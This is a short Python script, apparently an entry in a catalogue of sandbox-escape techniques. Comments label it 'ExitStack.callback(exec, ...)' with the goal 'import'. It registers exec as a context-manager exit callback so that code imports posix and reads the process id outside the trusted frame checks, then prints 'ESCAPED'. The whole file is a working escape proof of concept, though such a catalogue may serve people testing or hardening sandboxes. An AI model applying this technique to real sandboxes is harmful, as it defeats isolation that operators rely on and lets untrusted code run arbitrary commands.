# technique: ExitStack.callback(exec, ...)
# goal: import
# source: own analysis: attacker's C callables below a trusted frame
import contextlib
g = {}
with contextlib.ExitStack() as stack:
    stack.callback(exec, 'import posix; pid = posix.getpid()', g)
print('ESCAPED pid=%d' % g['pid'])
